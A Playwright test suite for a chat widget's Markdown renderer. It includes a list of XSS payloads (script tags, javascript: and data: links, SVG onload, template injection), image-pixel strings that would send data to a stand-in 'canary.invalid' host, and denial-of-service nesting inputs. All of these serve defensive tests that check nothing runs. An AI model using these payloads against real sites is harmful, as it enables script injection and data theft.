"""What hostile text, names and pages cannot do. The payloads come as frames, the way a fooled model would send them."""

from collections.abc import AsyncIterator

import pytest
from playwright.async_api import Page, Request, expect

from tests.browser.scripted import Desk
from tests.browser.test_widget import bubbles, composer, opened, say

CANARY = "http://canary.invalid"
PAYLOADS = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    f"<img src='{CANARY}/a.png'>",
    f"![secret]({CANARY}/pixel.png?data=secret)",
    f"[![nested]({CANARY}/pixel.png)]({CANARY}/page)",
    "[click](javascript:window.pwned=1)",
    "[click](JaVaScRiPt&colon;window.pwned=1)",
    "[click](\x01javascript:window.pwned=1)",
    "[click](java\tscript:window.pwned=1)",
    "[click](data:text/html,<script>window.pwned=1</script>)",
    "[click](vbscript:pwned)",
    "[click](file:///etc/passwd)",
    "[click](//canary.invalid/x)",
    '[click](https://a.example" onclick="window.pwned=1)',
    "<javascript:window.pwned=1>",
    "<svg onload=window.pwned=1><style>@import url(http://canary.invalid/x.css)</style></svg>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<link rel=stylesheet href=http://canary.invalid/x.css>",
    "<form action=http://canary.invalid><input name=a></form>",
    "```html\n<script>window.pwned = 1</script>\n```",
    "| <b onmouseover=window.pwned=1> | b |\n|---|---|\n| <script>window.pwned=1</script> | ![x](http://canary.invalid/t.png) |",
    f"> # **<img src={CANARY}/q.png>** [x]({CANARY}) `<script>`",
    "{{constructor.constructor('window.pwned=1')()}}",
    "[1](javascript:window.pwned=1) [1]",
    "\u202e\u2066evil\u2069 \U000e0041\u200b",
]
DEEP = {
    "brackets": "[" * 100_000,
    "pairs": "[" * 50_000 + "]" * 50_000,
    "links": "[](" * 33_000,
    "images": "![" * 50_000,
    "stars": "*" * 100_000,
    "spaced stars": "*a " * 33_000,
    "mixed": "**a*_b_`" * 12_500,
    "ticks": "".join("`" * (size % 300 + 1) + "a" for size in range(650)),
    "quotes": ">" * 100_000,
    "quote lines": "> " * 50_000 + "\n" + "> a\n" * 10_000,
    "lists": "\n".join(" " * (depth % 12) + "- a" for depth in range(10_000)),
    "pipes": "|" * 50_000 + "\n" + "|-" * 25_000,
    "rule": "a|b\n" + " " * 100_000,
    "zalgo": "e" + "\u0301" * 100_000,
    "addresses": "http://" * 14_000,
    "addresses that end": "http://a...." * 8_000,
    "parentheses": "[a](" + "(" * 100_000,
    "spaces": "[a](b" + " " * 100_000,
    "fences": "```\n~~~\n" * 12_000,
    "lines": "\n" * 100_000,
}


@pytest.fixture
async def requests(page: Page) -> AsyncIterator[list[str]]:
    """The address of everything the page asked for."""
    seen: list[str] = []

    def note(request: Request) -> None:
        seen.append(request.url)

    page.on("request", note)
    yield seen
    page.remove_listener("request", note)


async def elements(page: Page) -> list[str]:
    """The names of all elements and their attributes that messages brought into the panel."""
    found: list[str] = await page.evaluate(
        """() => [...document.querySelector("frontdesk-widget").shadowRoot.querySelectorAll(".body *, .by *, h2 *")]
          .flatMap((node) => [node.localName, ...node.getAttributeNames().map((name) => "@" + name)])"""
    )
    return found


async def test_f82_f83_hostile_text_stays_text(page: Page, desk: Desk, requests: list[str]) -> None:
    """No payload runs, brings an element that the subset does not know, or makes the page ask another host for anything."""
    session = await opened(page, desk)
    for payload in PAYLOADS:
        citations = [{"number": 1, "id": "p", "title": payload, "url": "javascript:window.pwned=1"}]
        file = {"id": "none", "name": payload, "media_type": "text/html", "size_bytes": 1}
        fields = {"name": payload, "citations": citations, "buttons": [{"id": "b", "label": payload}]}
        await session.send("delta", message=f"m{len(desk.messages) + 1}", text=payload + " ")
        await desk.say(payload, **fields)
        await desk.say(payload, author="operator", name=payload)
        await desk.say(payload, author="user", attachments=[file])
        await desk.say(payload, author="system")
    await session.send("owner", owner="operator", name=PAYLOADS[1])
    await desk.say("The end")
    await expect(bubbles(page, "agent").last).to_have_text("The end")
    await page.get_by_role("button", name="Source 1").first.click()
    await expect(page.locator("#sheet #page")).to_be_hidden()
    known = {"p", "strong", "em", "code", "pre", "a", "ul", "ol", "li", "blockquote", "hr"}
    known |= {
        "div",
        "table",
        "tr",
        "td",
        "th",
        "button",
        "@class",
        "@href",
        "@title",
        "@rel",
        "@target",
        "@type",
        "@aria-label",
    }
    assert set(await elements(page)) <= known
    assert await page.evaluate("window.pwned") is None
    for link in await page.locator(".body a").all():
        assert (await link.get_attribute("href") or "").startswith(("http:", "https:", "mailto:"))
        assert await link.get_attribute("rel") == "noopener noreferrer nofollow"
        assert await link.get_attribute("target") == "_blank"
    assert [url for url in requests if not url.startswith((desk.url, "blob:"))] == []


async def test_f60_deep_nesting_takes_linear_time(page: Page, desk: Desk) -> None:
    """A hundred thousand nested marks, as draft and as message, cost no more than about as many letters do."""
    await opened(page, desk)
    script = """async ([url, text]) => {
      const { render } = await import(url);
      const took = {};
      for (const live of [false, true]) {
        const parent = document.createElement("div");
        const start = performance.now();
        render(parent, text, undefined, live);
        took[live] = performance.now() - start;
      }
      return Math.max(...Object.values(took));
    }"""
    slow = {}
    for name, text in DEEP.items():
        took_ms: float = await page.evaluate(script, [f"{desk.url}/widget/markdown.js", text])
        if took_ms > 2000:
            slow[name] = took_ms
    assert not slow


async def test_text_is_rendered_as_meant(page: Page, desk: Desk) -> None:
    """The subset of Markdown that an agent uses looks as it should, and what is not markup stays as it was."""
    await opened(page, desk)
    script = """async ([url, text, live]) => {
      const { render } = await import(url);
      const parent = document.createElement("div");
      render(parent, text, undefined, live);
      return parent.innerHTML.replace(/ (title|rel|target)="[^"]*"/g, "");
    }"""
    cases = {
        "a **b** *c* ***d*** `f*g*`": "<p>a <strong>b</strong> <em>c</em> <strong><em>d</em></strong> <code>f*g*</code></p>",
        "snake_case_name 2 * 3 * 4 \\*no\\*": "<p>snake_case_name 2 * 3 * 4 *no*</p>",
        "**open and [half": "<p>**open and [half</p>",
        "# Head\ntext\nmore": "<p><strong>Head</strong></p><p>text\nmore</p>",
        "- a\n  - b\n- c": "<ul><li><p>a</p><ul><li><p>b</p></li></ul></li><li><p>c</p></li></ul>",
        "3. a\n4. b": '<ol start="3"><li><p>a</p></li><li><p>b</p></li></ol>',
        "> q\n\n---": "<blockquote><p>q</p></blockquote><hr>",
        "[a](https://e.example/(x))": '<p><a href="https://e.example/(x)">a</a></p>',
        "see https://e.example/a. Or [x](mailto:a@b.example)": '<p>see <a href="https://e.example/a">https://e.example/a</a>. Or <a href="mailto:a@b.example">x</a></p>',
        "![alt](https://e.example/a.png)": '<p><a href="https://e.example/a.png">alt</a></p>',
        "a|b\n-|-\n1|2": '<div class="wide"><table><tr><th>a</th><th>b</th></tr><tr><td>1</td><td>2</td></tr></table></div>',
        "```py\n<x>\n```": "<pre><code>&lt;x&gt;</code></pre>",
    }
    url = f"{desk.url}/widget/markdown.js"
    for text, expected in cases.items():
        assert await page.evaluate(script, [url, text, False]) == expected
    drafts = {
        "**bo": "<p><strong>bo</strong></p>",
        "see [te": "<p>see te</p>",
        "see [text](htt": "<p>see text</p>",
        "a *": "<p>a </p>",
    }
    for text, expected in drafts.items():
        assert await page.evaluate(script, [url, text, True]) == expected


async def test_frames_that_make_no_sense_are_survived(page: Page, desk: Desk) -> None:
    """Unknown frames, missing fields and broken JSON do not end the conversation."""
    session = await opened(page, desk)
    await session.socket.send_str("not json")
    await session.socket.send_str("[]")
    await session.socket.send_str("null")
    for type_ in ("future", "constructor", "toString", "withdraw", "error", "case", "passage", "owner"):
        await session.send(type_)
    await session.send("message", id="odd", seq=1, author="agent", text=None, at_ms=0)
    await desk.say("Still here")
    await expect(bubbles(page, "agent").last).to_have_text("Still here")


@pytest.mark.parametrize("how", ["", "async", "defer", 'type="module"'])
async def test_a_host_page_with_a_strict_policy(page: Page, desk: Desk, how: str, requests: list[str]) -> None:
    """On another origin under a strict policy the documented sources are enough, whatever way the tag loads the script."""
    socket = desk.url.replace("http", "ws", 1)
    policy = (
        f"default-src 'none'; script-src {desk.url}; connect-src {desk.url} {socket}; img-src blob:; "
        "base-uri 'none'; require-trusted-types-for 'script'; trusted-types 'none'"
    )
    async with Desk(policy=policy) as host:
        attributes = f'{how} data-open data-name="Acme Help" data-greeting="Welcome!" data-suggestions="One|Two" data-color="#0a7"'
        host.pages["shop.html"] = (
            f'<!doctype html><title>Shop</title><body><script src="{desk.url}/widget.js" {attributes}></script>'
        )
        violations: list[str] = []
        page.on(
            "console", lambda message: violations.append(message.text) if "Content Security" in message.text else None
        )
        await page.goto(f"{host.url}/shop.html")
        await expect(page.get_by_role("dialog", name="Acme Help")).to_be_visible()
        await expect(page.get_by_text("Welcome!")).to_be_visible()
        await page.get_by_role("button", name="Two").click()
        await expect(page.get_by_text("Sent", exact=True)).to_be_visible()
        await expect(composer(page)).to_have_css("resize", "none")
        await say(page, "And more")
        await desk.received("message", 2)
        hosts = {"/".join(url.split("/")[:3]) for url in requests}
        assert hosts <= {host.url, desk.url}
        assert violations == []
